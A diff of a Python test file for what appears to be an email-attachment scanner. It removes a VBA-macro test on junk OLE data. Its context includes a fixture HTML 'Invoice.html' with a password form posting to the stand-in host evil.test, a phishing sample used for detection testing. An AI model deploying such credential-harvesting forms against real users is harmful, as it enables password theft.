@@ -99,13 +99,6 @@ def test_ole_document_goes_to_olevba(monkeypatch: pytest.MonkeyPatch) -> None:
     assert seen == [ole]
 
 
-def test_olevba_on_junk_is_false() -> None:
-    from popproxy.scan.macros import has_vba_macros
-
-    assert has_vba_macros("x.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100) is False
-    assert has_vba_macros("x.docm", _zip({"word/vbaProject.bin": b"junk"})) is False
-
-
 def test_html_attachment_with_form() -> None:
     page = b'<html><form action="https://evil.test/p"><input type="password"></form></html>'
     msg = build(attachments=(("Invoice.html", page, "text/html"),))
